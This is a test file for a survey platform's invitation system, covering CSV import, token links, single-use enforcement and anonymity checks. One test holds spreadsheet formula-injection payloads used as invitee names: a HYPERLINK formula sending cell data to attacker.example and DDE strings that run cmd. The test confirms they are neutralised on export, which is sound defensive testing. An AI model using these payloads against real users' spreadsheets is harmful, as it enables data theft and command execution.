/**
 * The leader survey's invitations over real HTTP: import, links for mail merge, one response per
 * token (in the same transaction), completion tracking — and the anonymity guarantee, shown on a
 * dump of the whole database: nothing links a response to its invitee. Invitee files are read in
 * every encoding Excel saves, and the links file never hands a spreadsheet a formula.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sql } from "kysely";
import { DIALECTS, postgresAvailable } from "../helpers/databases.js";
import { startTestServer, type TestServer } from "../helpers/server.js";
import { demoUnits, instrumentOf, makeSubmission } from "../helpers/responses.js";
import { seededRng } from "../../server/demo/random.js";
import type { Instrument } from "../../shared/instrument/schema.js";
import { readCsv } from "../../server/lib/csv.js";
import { encodedFixtures, TCVN3_THON_PHU_LOC } from "../helpers/encodings.js";

describe.each(DIALECTS)("invitations on %s", (dialect) => {
  const skip = dialect === "postgres" && !postgresAvailable;
  let server: TestServer;
  let admin: Record<string, string>;
  let leaders: Instrument;
  let round: string;
  let agencies: string[];
  const tokens: string[] = [];

  beforeAll(async () => {
    if (skip) return;
    server = await startTestServer(dialect);
    const account = await server.createUser("admin");
    admin = await server.signIn(account.username, account.password);
    leaders = await instrumentOf(server.ctx, "par-leaders-2022");
    round = await server.createRound("par-leaders-2022", { modes: ["invitation"] });
    agencies = demoUnits(server.ctx, "agency");
  });
  afterAll(async () => {
    if (!skip) await server.close();
  });

  const answer = (token: string, seed: number) => {
    const s = makeSubmission(leaders, "ignored", "ignored", seededRng(seed), { channel: "invitation" });
    return server.api(`/api/invitations/${token}/response`, { json: s });
  };

  it.skipIf(skip)("imports invitees from CSV, reporting bad rows by line and writing nothing", async () => {
    const bad = "name,email,group,agency\nNguyễn Văn A,a@example.vn,so,SNV\nTrần Thị B,not-an-email,so,SNV\nLê C,c@example.vn,nope,SNV\n";
    const refused = await server.api(`/api/rounds/${round}/invitations`, { method: "POST", body: bad, headers: { ...admin, "content-type": "text/csv" } });
    expect(refused.status).toBe(422);
    expect(refused.body.error.errors.map((e: { question: string }) => e.question)).toEqual(["line 3.email", "line 4.group"]);
    expect(await server.count("invitations")).toBe(0);

    const rows = ["name,email,group,agency"];
    const groups = ["hdnd", "so", "phong", "huyen"];
    for (let i = 0; i < 12; i++) rows.push(`Đại biểu ${i + 1},dai.bieu${i + 1}@example.vn,${groups[i % 4]},${agencies[i % agencies.length]}`);
    const ok = await server.api(`/api/rounds/${round}/invitations`, { method: "POST", body: `\uFEFF${rows.join("\n")}\n`, headers: { ...admin, "content-type": "text/csv" } });
    expect(ok.status).toBe(201);
    expect(ok.body.imported).toBe(12);
  });

  it.skipIf(skip)("exports links as CSV with a BOM, each with an unguessable token", async () => {
    const res = await fetch(`${server.url}/api/rounds/${round}/invitations/links.csv`, { headers: admin });
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text).toContain("Đại biểu 1");
    for (const match of text.matchAll(/\/i\/([A-Za-z0-9_-]+)/g)) tokens.push(match[1]!);
    expect(tokens).toHaveLength(12);
    // 24 random bytes in base64url: 32 characters, 192 bits.
    for (const t of tokens) expect(t).toMatch(/^[A-Za-z0-9_-]{32}$/);
    expect((await server.api(`/api/rounds/${round}/invitations/links.csv`)).status).toBe(401);
  });

  it.skipIf(skip)("a token allows exactly one response; a second use gets a clear 409", async () => {
    const form = await server.api(`/api/invitations/${tokens[0]}`);
    expect(form.status).toBe(200);
    expect(form.body.groups).toHaveLength(1);
    expect(form.body.fixedUnit.key).toMatch(/:A-/);
    const first = await answer(tokens[0]!, 1);
    expect(first.status).toBe(201);
    const second = await answer(tokens[0]!, 2);
    expect(second.status).toBe(409);
    expect(second.body.error.code).toBe("token_used");
    expect(second.body.error.message_vi).toMatch(/đã được dùng/);
    expect((await server.api(`/api/invitations/${tokens[0]}`)).status).toBe(409);
    expect((await server.api(`/api/invitations/not-a-real-token-at-all-xxxxxxxxx`)).status).toBe(404);
  });

  it.skipIf(skip)("concurrent uses of one token store one response", async () => {
    const results = await Promise.all([3, 4, 5, 6, 7].map((seed) => answer(tokens[1]!, seed)));
    expect(results.filter((r) => r.status === 201)).toHaveLength(1);
    expect(results.filter((r) => r.status === 409)).toHaveLength(4);
  });

  it.skipIf(skip)("tracks completion per group and agency, and lists who has not answered", async () => {
    for (let i = 2; i < 8; i++) expect((await answer(tokens[i]!, 10 + i)).status).toBe(201);
    const progress = await server.api(`/api/rounds/${round}/invitations/progress`, { headers: admin });
    expect(progress.body.total).toMatchObject({ invited: 12, answered: 8 });
    expect(progress.body.notAnswered).toHaveLength(4);
    expect(progress.body.groups.reduce((s: number, g: { answered: number }) => s + g.answered, 0)).toBe(8);
  });

  it.skipIf(skip)("a token of a closed round gets a clear message", async () => {
    await server.ctx.db.kysely.updateTable("rounds").set({ status: "closed" }).where("id", "=", round).execute();
    const res = await answer(tokens[11]!, 99);
    expect(res.status).toBe(409);
    expect(res.body.error.code).toBe("round_not_open");
    expect(res.body.error.message_vi).toMatch(/kết thúc/);
    await server.ctx.db.kysely.updateTable("rounds").set({ status: "open" }).where("id", "=", round).execute();
  });

  it.skipIf(skip)("reads an invitee file in UTF-8, UTF-8 with BOM, UTF-16LE with BOM and Windows-1258 to the same names", async () => {
    const names = ["Nguyễn Thị Hồng Nhung", "Trần Văn Đức", "Lê Thị Ánh Tuyết"];
    const csv = (i: number) => `name;email;group;agency\n${names.map((n, j) => `${n};enc${i}.${j}@example.vn;so;${agencies[j % agencies.length]}`).join("\n")}\n`;
    for (let i = 0; i < 4; i++) {
      const [encoding, bytes] = encodedFixtures(csv(i))[i]!;
      const res = await server.api(`/api/rounds/${round}/invitations`, { method: "POST", body: new Uint8Array(bytes), headers: { ...admin, "content-type": "text/csv" } });
      expect(res.status, `${encoding}: ${JSON.stringify(res.body)}`).toBe(201);
      const stored = await server.ctx.db.kysely.selectFrom("invitations").select(["name", "email"]).where("email", "like", `enc${i}.%`).orderBy("email").execute();
      expect(stored.map((r) => r.name), encoding).toEqual(names);
    }
  });

  it.skipIf(skip)("refuses an invitee file it cannot decode surely, and stores nothing", async () => {
    const before = await server.count("invitations");
    const bytes = Buffer.concat([Buffer.from("name,email,group,agency\n"), TCVN3_THON_PHU_LOC, Buffer.from(`,tcvn3@example.vn,so,${agencies[0]}\n`)]);
    const res = await server.api(`/api/rounds/${round}/invitations`, { method: "POST", body: new Uint8Array(bytes), headers: { ...admin, "content-type": "text/csv" } });
    expect(res.status).toBe(422);
    expect(res.body.error.errors[0]).toMatchObject({ question: "line 2", code: "invalid_field" });
    expect(res.body.error.errors[0].message_vi).toContain("CSV UTF-8");
    expect(res.body.error.errors[0].message_en).toContain("CSV UTF-8");
    const unclosed = await server.api(`/api/rounds/${round}/invitations`, { method: "POST", body: `name,email,group,agency\n"Open,x@example.vn,so,${agencies[0]}\n`, headers: { ...admin, "content-type": "text/csv" } });
    expect(unclosed.status).toBe(422);
    expect(unclosed.body.error.errors[0].question).toBe("line 2");
    expect(await server.count("invitations")).toBe(before);
  });

  it.skipIf(skip)("links.csv writes an invitee named like a formula as text", async () => {
    const formulas = ['=HYPERLINK("http://attacker.example/?d="&B2,"Bấm vào đây")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"];
    const json = { invitees: formulas.map((name, i) => ({ name, email: `formula${i}@example.vn`, group: "so", agency: agencies[0] })) };
    expect((await server.api(`/api/rounds/${round}/invitations`, { json, headers: admin })).status).toBe(201);
    const res = await fetch(`${server.url}/api/rounds/${round}/invitations/links.csv`, { headers: admin });
    const table = readCsv(new Uint8Array(await res.arrayBuffer()));
    const nameOf = new Map(table.records.map((r) => [r.fields[table.columns.indexOf("email")], r.fields[table.columns.indexOf("name")]]));
    formulas.forEach((name, i) => expect(nameOf.get(`formula${i}@example.vn`)).toBe(`'${name}`));
    // No cell of the file starts like a formula.
    for (const record of table.records) for (const field of record.fields) expect(field).not.toMatch(/^[=+\-@]/);
  });

  it.skipIf(skip)("the database holds nothing that links a response to its invitee", async () => {
    const db = server.ctx.db.kysely;
    const invitations = await db.selectFrom("invitations").selectAll().where("round_id", "=", round).execute();
    const responses = await db.selectFrom("responses").selectAll().where("round_id", "=", round).execute();
    expect(responses).toHaveLength(8);

    // 1. No column of any table holds both a response id and an invitation token, name or e-mail.
    const secrets = invitations.flatMap((i) => [i.token, i.name, i.email]);
    const responseIds = responses.map((r) => r.id);
    const tables = ["responses", "answers", "rollups", "cell_totals", "invitations", "audit_log", "sessions", "device_tokens", "users", "meta", "rounds"] as const;
    for (const table of tables) {
      const rows = (await db.selectFrom(table).selectAll().execute()) as Array<Record<string, unknown>>;
      for (const row of rows) {
        const text = JSON.stringify(row);
        const hasSecret = secrets.some((s) => text.includes(s));
        const hasResponse = responseIds.some((id) => text.includes(id));
        expect(hasSecret && hasResponse, `${table} row links an invitee and a response`).toBe(false);
        if (table === "responses" || table === "answers") expect(hasSecret, `${table} holds an invitee's identity`).toBe(false);
      }
    }
    // 2. Times: a response keeps no time finer than the day, and no device or enumerator id.
    for (const r of responses) {
      for (const t of [r.started_at, r.submitted_at]) if (t !== null) expect(t).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(r.received_on).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(r.device_id).toBeNull();
      expect(r.enumerator_id).toBeNull();
      expect(JSON.parse(r.payload_json).startedAt ?? "").not.toMatch(/T/);
    }
    for (const i of invitations) if (i.used_on) expect(i.used_on).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    // 3. Ids are random (version 4 UUIDs), so they carry no order.
    for (const id of responseIds) expect(id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    // 4. Ordering: the order rows come back in is that of the random id, not of arrival.
    if (dialect === "sqlite") {
      const natural = (await sql<{ id: string }>`select id from responses where round_id = ${round}`.execute(db)).rows.map((r) => r.id);
      expect(natural).toEqual([...natural].sort());
      expect(server.ctx.db.sqlite!.pragma("table_list", { simple: false })).toBeDefined();
      const schema = server.ctx.db.sqlite!.prepare("select sql from sqlite_master where name in ('responses', 'invitations')").all() as Array<{ sql: string }>;
      for (const s of schema) expect(s.sql).toMatch(/without rowid/i);
    } else {
      // PostgreSQL: every used invitation carries the same row version, so the transaction that
      // stored a response cannot be matched with the one that marked its token used.
      const xmins = (await sql<{ xmin: string }>`select xmin::text as xmin from invitations where round_id = ${round} and used_on is not null`.execute(db)).rows;
      expect(new Set(xmins.map((x) => x.xmin)).size).toBe(1);
      const responseXmins = (await sql<{ xmin: string }>`select xmin::text as xmin from responses where round_id = ${round}`.execute(db)).rows;
      expect(responseXmins.some((r) => r.xmin === xmins[0]!.xmin)).toBe(false);
    }
    // 5. The audit log records administrative actions, never the use of an invitation.
    const audit = await db.selectFrom("audit_log").select(["action", "detail_json", "target"]).execute();
    expect(audit.some((a) => /invitation(s)?\.(use|answer)/.test(a.action))).toBe(false);
    // 6. Responses still carry group and agency, because results are reported by them.
    expect(new Set(responses.map((r) => r.group_code)).size).toBeGreaterThan(1);
  });
});
